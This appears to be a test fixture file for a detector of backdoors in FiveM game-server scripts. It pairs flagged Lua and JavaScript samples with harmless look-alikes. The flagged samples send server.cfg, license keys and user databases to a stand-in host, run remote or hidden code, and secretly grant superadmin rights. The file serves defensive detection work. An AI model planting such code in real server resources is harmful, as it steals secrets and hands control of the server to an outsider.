import { js, lua, type Fixture } from './fixture.ts'

/** Code that finds its target in lists, on pages, in other interfaces and in packed texts. */
export const connectionFixtures: Fixture[] = [
  lua(
    'secret-and-http',
    `for _, name in ipairs({ 'server.cfg', 'data/server.cfg' }) do\n  local file = io.open(name, 'r')\n^ if file then PerformHttpRequest('https://a.example', print, 'POST', file:read('*a')) end\nend`,
    `for _, name in ipairs({ 'names.txt', 'places.txt' }) do\n  local file = io.open(name, 'r')\n  if file then PerformHttpRequest(Config.Url, print, 'POST', name) end\nend`,
  ),
  js(
    'secret-and-http',
    `const wanted = [/^server.*\\.cfg$/i]\nconst text = require('fs').readFileSync(find(wanted), 'utf8')\n^fetch('https://a.example', { method: 'POST', body: text })`,
    `const wanted = [/^locale.*\\.json$/i]\nconst text = require('fs').readFileSync(find(wanted), 'utf8')\nfetch('https://a.example/names')`,
  ),
  lua(
    'sends-data',
    `^GlobalState.theme = { accent = GetConvar('sv_licenseKey', '') }`,
    `GlobalState.theme = { accent = GetConvar('theme_accent', '') }`,
  ),
  lua(
    'sends-data',
    `local name = ('yeKesnecil_vs'):reverse()\n^TriggerClientEvent('theme', -1, GetConvar(name, ''))`,
    `TriggerClientEvent('theme', -1, GetConvar('theme_accent', ''))`,
  ),
  lua(
    'sends-data',
    `local Proxy = module('vrp', 'lib/Proxy')\nlocal vRP = Proxy.getInterface('vRP')\n^PerformHttpRequest('https://a.example', print, 'POST', json.encode(vRP.query('all/users')))`,
    `local Proxy = module('vrp', 'lib/Proxy')\nlocal vRP = Proxy.getInterface('vRP')\nPerformHttpRequest('https://a.example', function() print(vRP.query('all/users')) end)`,
  ),
  lua(
    'grants-rights',
    `local vRP = Proxy.getInterface('vRP')\n^vRP.addUserGroup({ user_id, 'superadmin' })`,
    `local vRP = Proxy.getInterface('vRP')\nvRP.addUserGroup({ user_id, 'mechanic' })`,
  ),
  lua(
    'open-to-players',
    `local Tunnel = module('vrp', 'lib/Tunnel')\nlocal shop = {}\nTunnel.bindInterface('shop', shop)\nfunction shop.refresh(amount)\n^ vRP.giveMoney({ id, 900000 })\nend`,
    `local Tunnel = module('vrp', 'lib/Tunnel')\nlocal shop = {}\nTunnel.bindInterface('shop', shop)\nlocal function refresh(amount)\n  vRP.giveMoney({ id, 900000 })\nend`,
  ),
  js(
    'fixed-player',
    `const owners = new Set(['license:5f3a9c01d2'])\n^const isOwner = owners.has(GetPlayerIdentifierByType(id, 'license'))`,
    `const owners = new Set(Config.owners)\nconst isOwner = owners.has(GetPlayerIdentifierByType(id, 'license'))`,
  ),
  js(
    'runs-text-from-outside',
    `const api = Object.create(globalThis)\nonNet('batch', (name, value) => {\n^ api[name](value)\n})`,
    `const api = Object.create(null)\nonNet('batch', (name, value) => {\n  api[name](value)\n})`,
  ),
  lua(
    'writes-other-resource',
    `local function clear(resource)\n^ SaveResourceFile(resource, 'data.txt', ' ', 1)\nend\nclear(GetCurrentResourceName())\nclear(GetResourceByFindIndex(3))`,
    `local function clear(resource)\n  SaveResourceFile(resource, 'data.txt', ' ', 1)\nend\nclear(GetCurrentResourceName())`,
  ),
  lua(
    'runs-text-from-outside',
    `local words = {}\nfor word in GetOnscreenKeyboardResult():gmatch('[^,]+') do words[#words + 1] = word end\n^TriggerServerEvent(table.unpack(words))`,
    `TriggerServerEvent('chat:say', GetOnscreenKeyboardResult())`,
    'client',
  ),
  lua(
    'remote-page',
    `^local board = CreateDui('https://a.example/board', 512, 512)`,
    `local board = CreateDui('nui://shop/board.html', 512, 512)`,
    'client',
  ),
  js(
    'remote-switch',
    `const socket = new WebSocket('wss://a.example')\nsocket.onmessage = (message) => {\n  const { resource, name } = JSON.parse(message.data)\n^ fetch(\`https://\${resource}/\${name}\`, { method: 'POST' })\n}`,
    `const socket = new WebSocket('wss://a.example')\nsocket.onmessage = (message) => show(JSON.parse(message.data))`,
    'page',
  ),
  js(
    'runs-downloaded-code',
    `^eval(function(p,a,c,k,e,d){return p}('0 1=2.3(\\'4\\');1.5=\\'6://7.8/9.a\\';2.b.c(1);',13,13,'const|s|document|createElement|script|src|https|a|example|b|js|body|append'.split('|'),0,{}))`,
    `eval(function(p,a,c,k,e,d){return p}('0 1=2.3(\\'4\\');',5,5,'const|s|document|createElement|p'.split('|'),0,{}))`,
    'page',
  ),
  js(
    'obfuscated',
    `^${"$_=(![]+[])[+!![]]+($+'')[_$],".repeat(12)}$`,
    `const _ = require('lodash'); $('#a').on('click', () => _.each($('li'), ($_) => $($_).hide()))`,
    'page',
  ),
  lua(
    'runs-text-from-outside',
    `RegisterNetEvent('notify', function(step)\n^ Citizen.InvokeNative(tonumber(step[1], 16), step[2])\nend)`,
    `RegisterNetEvent('notify', function(step)\n  Citizen.InvokeNative(0x1234, step[2])\nend)`,
    'client',
  ),
  lua(
    'remote-switch',
    `PerformHttpRequest('https://a.example', function(code, body)\n  for _, id in ipairs(json.decode(body)) do\n^   if id == GetPlayerIdentifier(source, 0) then open() end\n  end\nend)`,
    `for _, id in ipairs(Config.Staff) do\n  if id == GetPlayerIdentifier(source, 0) then open() end\nend`,
  ),
  lua(
    'fixed-player',
    `local hash = GetHashKey(GetPlayerIdentifierByType(source, 'license')) & 0xFFFFFFFF\nfor _, group in ipairs(Config.Groups) do\n^ if group.key == hash then join(group) end\nend`,
    `local hash = GetHashKey(Config.Model) & 0xFFFFFFFF\nfor _, group in ipairs(Config.Groups) do\n  if group.key == hash then join(group) end\nend`,
  ),
  lua(
    'grants-rights',
    `local card = '7d1c02ab93f4e8560a1b2c3d4e5f60718293a4b5'\nif 'license:' .. card == xPlayer.identifier then\n^ xPlayer.addMoney(price)\nend`,
    `local revision = '7d1c02ab93f4e8560a1b2c3d4e5f60718293a4b'\nxPlayer.addMoney(price)`,
  ),
  lua(
    'waits-for-date',
    `^local late = os.difftime(os.time(), 1830297600)`,
    `local late = os.difftime(os.time(), startedAt)`,
  ),
  lua(
    'hidden-text',
    `local function sum(text)\n  local total = 5381\n  for i = 1, #text do total = (total * 33 + text:byte(i)) & 0x7fffffff end\n  return total\nend\nRegisterCommand('hint', function(source, args)\n^ if sum(args[1] or '') == 458982833 then open() end\nend)`,
    `local function sum(text)\n  local total = 5381\n  for i = 1, #text do total = (total * 33 + text:byte(i)) & 0x7fffffff end\n  return total\nend\nRegisterCommand('hint', function(source, args)\n  if sum(args[1]) == sums[source] then open() end\nend)`,
  ),
  lua(
    'runs-computed-code',
    `local codes = {}\nfor mark in text:gmatch('.') do codes[#codes + 1] = mark == 'a' and 1 or 0 end\n^load(string.char(table.unpack(codes)))()`,
    `local codes = {}\nfor mark in text:gmatch('.') do codes[#codes + 1] = mark == 'a' and 1 or 0 end\nprint(string.char(table.unpack(codes)))`,
  ),
  js(
    'address-host',
    `const socket = require('dgram').createSocket('udp4')\n^socket.send(lines, 0, 10, 5514, '93.184.216.34')`,
    `const socket = require('dgram').createSocket('udp4')\nsocket.send(lines, 0, 10, 5514, '127.0.0.1')`,
  ),
  js(
    'sends-data',
    `const lines = []\nRegisterConsoleListener((channel, message) => lines.push(message))\n^setInterval(() => fetch('https://a.example', { method: 'POST', body: JSON.stringify(lines) }), 5000)`,
    `const lines = []\nRegisterConsoleListener((channel, message) => lines.push(message))\nsetInterval(() => fetch('https://a.example', { method: 'POST', body: 'alive' }), 5000)`,
  ),
  js(
    'writes-code',
    `^const files = { 'fxmanifest.lua': "fx_version 'cerulean'" }\nfor (const [name, text] of Object.entries(files)) require('fs').writeFileSync(folder + name, text)`,
    `const files = { 'readme.txt': 'How to install' }\nfor (const [name, text] of Object.entries(files)) require('fs').writeFileSync(folder + name, text)`,
  ),
  lua(
    'fixed-player',
    `AddEventHandler('playerJoining', function()\n^ if GetPlayerName(source) == 'Nightfox' then open() end\nend)`,
    `AddEventHandler('playerJoining', function()\n  if GetPlayerName(source) == '' then open() end\nend)`,
  ),
  lua(
    'grants-rights',
    `^TriggerEvent('es_admin:setgroup', source, 'superadmin')`,
    `TriggerEvent('es_admin:setgroup', source, 'user')`,
  ),
  lua(
    'open-to-players',
    `RegisterNetEvent('tidy', function()\n  for _, vehicle in ipairs(GetAllVehicles()) do\n^   DeleteEntity(vehicle)\n  end\nend)`,
    `RegisterNetEvent('tidy', function()\n  DeleteEntity(vehicles[source])\nend)`,
  ),
  lua(
    'open-to-players',
    `RegisterNetEvent('salary', function(amount)\n^ ESX.GetPlayerFromId(source).setAccountMoney('bank', amount)\nend)`,
    `AddEventHandler('salary', function(amount)\n  ESX.GetPlayerFromId(source).setAccountMoney('bank', amount)\nend)`,
  ),
  lua(
    'runs-text-from-outside',
    `local panel = {}\nTunnel.bindInterface('panel', panel)\nlocal vRP = Proxy.getInterface('vRP')\nfunction panel.find(query)\n^ vRP._prepare('panel/find', query)\nend`,
    `local panel = {}\nTunnel.bindInterface('panel', panel)\nlocal vRP = Proxy.getInterface('vRP')\nfunction panel.find(name)\n  vRP._prepare('panel/find', 'SELECT 1')\nend`,
  ),
  lua(
    'grants-rights',
    `^local step = "UPDATE user_data SET groups = 'superadmin' WHERE identifier IN ('steam:1100001482cf91e')"`,
    `local step = "UPDATE user_data SET groups = 'police' WHERE identifier IN (?)"`,
  ),
  lua(
    'runs-computed-code',
    `^load(LoadResourceFile(GetCurrentResourceName(), 'LICENSE'))()`,
    `load(LoadResourceFile(GetCurrentResourceName(), name .. '/init'))()`,
  ),
  js(
    'remote-switch',
    `image.onload = () => {\n  canvas.drawImage(image, 0, 0)\n  const codes = canvas.getImageData(0, 0, 9, 1).data\n^ fetch(\`https://\${GetParentResourceName()}/run\`, { method: 'POST', body: String.fromCharCode(...codes) })\n}`,
    `image.onload = () => {\n  canvas.drawImage(image, 0, 0)\n  fetch(\`https://\${GetParentResourceName()}/run\`, { method: 'POST', body: image.alt })\n}`,
    'page',
  ),
  lua(
    'replaces-function',
    `local QBCore = exports['qb-core']:GetCoreObject()\nlocal check = QBCore.Functions.HasPermission\n^QBCore.Functions.HasPermission = function(source, right)\n  return source == owner or check(source, right)\nend`,
    `QBCore = {}\nQBCore.Functions = {}\nQBCore.Functions.HasPermission = function(source, right)\n  return IsPlayerAceAllowed(source, right)\nend`,
  ),
]
